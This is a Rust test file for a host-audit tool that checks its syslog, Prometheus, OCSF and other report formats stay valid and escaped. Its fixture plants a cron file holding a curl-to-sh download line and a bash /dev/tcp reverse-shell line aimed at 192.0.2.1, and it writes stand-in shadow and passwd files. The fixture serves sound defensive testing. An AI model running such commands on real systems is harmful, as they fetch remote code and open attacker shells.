//! Reports for other programs: each form is accepted by the checker of its format, whatever bytes the
//! host holds.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // tests
#![cfg_attr(not(feature = "real-roots"), allow(dead_code, unused_imports))]

mod support;

use std::io::{Seek, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use coroner_core::Report;
use coroner_testkit::Tree;
use support::{coroner, status};

/// A root whose names and commands hold what each format must escape.
fn hostile() -> Tree {
    let fetch = "* * * * * root curl http://192.0.2.1/\"]\\x'a=\u{202e}b | sh\n";
    let mut table = fetch.as_bytes().to_vec();
    table.extend(
        b"* * * * * root /tmp/.x\xff\x1b[31m \"q\" ] \\ | bash -i >& /dev/tcp/192.0.2.1/4 0>&1\n",
    );
    Tree::new()
        .file("/etc/os-release", "ID=\"de\\\"bian]\"\nVERSION_ID=\"12\\\\\"\n")
        .file("/etc/hostname", "na\"me]\\\u{e9}\n")
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        .file("/etc/shadow", "root:*:19000:0:99999:7:::\n")
        .mode("/etc/shadow", 0o640)
        .file("/etc/group", "root:x:0:\n")
        .file("/etc/cron.d/plain", table)
        .dir("/proc")
        .dir("/sys")
}

/// All forms of one audit, written by one run.
struct Forms {
    dir: tempfile::TempDir,
}

impl Forms {
    fn of(tree: &Tree) -> Self {
        let (root, dir) = (tree.write(), tempfile::tempdir().unwrap());
        let also = ["ocsf", "syslog", "prometheus", "ndjson", "text"];
        let also =
            also.map(|format| format!("--also={format}={}", dir.path().join(format).display()));
        let output = coroner()
            .args(["audit", "--root"])
            .arg(root.path())
            .arg("-o")
            .arg(dir.path().join("json"))
            .args(also)
            .output()
            .unwrap();
        assert!(status(&output) < 4, "{}", String::from_utf8_lossy(&output.stderr));
        assert!(output.stdout.is_empty());
        Self { dir }
    }

    fn read(&self, format: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(format)).expect(format)
    }

    fn report(&self) -> Report {
        let report = Report::from_json(self.read("json").as_bytes()).unwrap();
        assert!(report.findings.len() > 1, "{:?}", report.findings);
        report
    }
}

#[test]
fn one_run_writes_every_form_and_leaves_nothing_beside_them() {
    let forms = Forms::of(&hostile());
    let mut names: Vec<_> = std::fs::read_dir(forms.dir.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["json", "ndjson", "ocsf", "prometheus", "syslog", "text"]);
    assert_eq!(forms.read("ocsf").lines().count(), forms.report().findings.len());
}

#[test]
fn outputs_that_cannot_be_are_refused_before_the_audit() {
    for (also, says) in [
        ("ocsf", "FORMAT=FILE"),
        ("odf=/tmp/x", "odf"),
        ("text=/no/such/dir/x", "/no/such/dir"),
        ("text=/tmp", "is a directory"),
    ] {
        let output = coroner().args(["audit", "--also", also]).output().unwrap();
        assert_eq!(status(&output), 64);
        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(errors.contains(says), "{also}: {errors}");
    }
    let twice =
        coroner().args(["audit", "-o", "/tmp/x", "--also", "text=/tmp/x"]).output().unwrap();
    assert_eq!(status(&twice), 64);
}

/// RFC 5424's grammar, section 6: the parts of a line, or what is wrong with it.
fn parsed(line: &str) -> Result<(Vec<(String, String)>, String), String> {
    let rest = line.strip_prefix('<').ok_or("no priority")?;
    let (priority, rest) = rest.split_once('>').ok_or("no end of priority")?;
    let priority: u8 = priority.parse().map_err(|_| "priority")?;
    if priority > 191 {
        return Err("priority is too large".to_owned());
    }
    let fields: Vec<&str> = rest.splitn(7, ' ').collect();
    let [version, time, host, app, process, id, rest] = fields[..] else {
        return Err("too few fields".to_owned());
    };
    let fraction = time.split_once('.').ok_or("no fraction")?.1;
    let ascii = |text: &str| text.bytes().all(|byte| byte.is_ascii_graphic());
    let whole = version == "1" && app == "coroner" && process == "-" && id.len() <= 32;
    if !(whole && ascii(host) && host.len() <= 255 && fraction.len() <= 7 && time.ends_with('Z')) {
        return Err(format!("header: {fields:?}"));
    }
    let mut rest = rest.strip_prefix("[coroner@32473").ok_or("no structured data")?;
    let mut parameters = Vec::new();
    while let Some(more) = rest.strip_prefix(' ') {
        let (name, more) = more.split_once("=\"").ok_or("no value")?;
        let mut value = String::new();
        let mut characters = more.char_indices();
        rest = loop {
            match characters.next().ok_or("an open value")? {
                (at, '"') => break more.get(at + 1..).ok_or("nothing behind")?,
                (_, ']') => return Err("a bare ]".to_owned()),
                (_, '\\') => value.push(characters.next().ok_or("an open escape")?.1),
                (_, other) => value.push(other),
            }
        };
        parameters.push((name.to_owned(), value));
    }
    let message = rest.strip_prefix("] \u{feff}").ok_or("no message")?;
    Ok((parameters, message.to_owned()))
}

#[test]
fn every_syslog_line_follows_rfc_5424_and_is_short_whatever_the_host_holds() {
    let forms = Forms::of(&hostile());
    let (lines, report) = (forms.read("syslog"), forms.report());
    assert_eq!(lines.lines().count(), report.findings.len() + 1);
    for (number, line) in lines.lines().enumerate() {
        let (parameters, message) = parsed(line).unwrap_or_else(|why| panic!("{why}: {line}"));
        assert!(line.len() < 2048, "{}", line.len());
        assert!(!line.chars().any(|c| c.is_control() || c == '\u{202e}'), "{line:?}");
        let first = if number == 0 { "level" } else { "id" };
        assert_eq!(parameters[0].0, first);
        assert!(!message.is_empty());
    }
    let evidence = lines.lines().filter_map(|line| parsed(line).ok()).flat_map(|(p, _)| p);
    assert!(evidence.into_iter().any(|(_, value)| value.contains('"')), "quotes come back");
}

/// What a checker says of a text, and whether it accepts it.
fn checked(command: &mut Command, text: &str) -> (bool, String) {
    let mut input = tempfile::tempfile().unwrap();
    input.write_all(text.as_bytes()).unwrap();
    input.rewind().unwrap();
    let output = command.stdin(input).output().expect("the checker runs: tests/run installs it");
    let said = [output.stdout, output.stderr].concat();
    (output.status.success(), String::from_utf8_lossy(&said).into_owned())
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs promtool: run tests/run")]
fn promtool_accepts_the_textfile_and_would_refuse_a_broken_one() {
    let text = Forms::of(&hostile()).read("prometheus");
    let promtool = || Command::new("promtool");
    let (fine, said) = checked(promtool().args(["check", "metrics"]), &text);
    assert!(fine, "{said}\n{text}");
    assert_eq!(said.trim(), "", "promtool has advice");
    let broken = text.replace("\\\"", "\"");
    assert_ne!(broken, text, "a quote was escaped");
    assert!(!checked(promtool().args(["check", "metrics"]), &broken).0);
}

fn ocsf_checker() -> Command {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let named = std::env::var_os("CORONER_SCHEMAS_PYTHON").map(PathBuf::from);
    let mut command = Command::new(named.unwrap_or(root.join("target/schemas/bin/python3")));
    command.arg(root.join("tests/ocsf/check.py"));
    command
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs the OCSF schema: run tests/run")]
fn ocsf_events_pass_the_schema_itself_and_a_foreign_field_would_not() {
    let text = Forms::of(&hostile()).read("ocsf");
    let (fine, said) = checked(&mut ocsf_checker(), &text);
    assert!(fine, "{said}");
    let foreign = text.replace("\"is_alert\"", "\"is_alarm\"");
    assert!(!checked(&mut ocsf_checker(), &foreign).0, "the schema is closed");
    let untyped = text.replace("\"category_uid\":2", "\"category_uid\":\"two\"");
    assert!(!checked(&mut ocsf_checker(), &untyped).0, "types are checked");
}
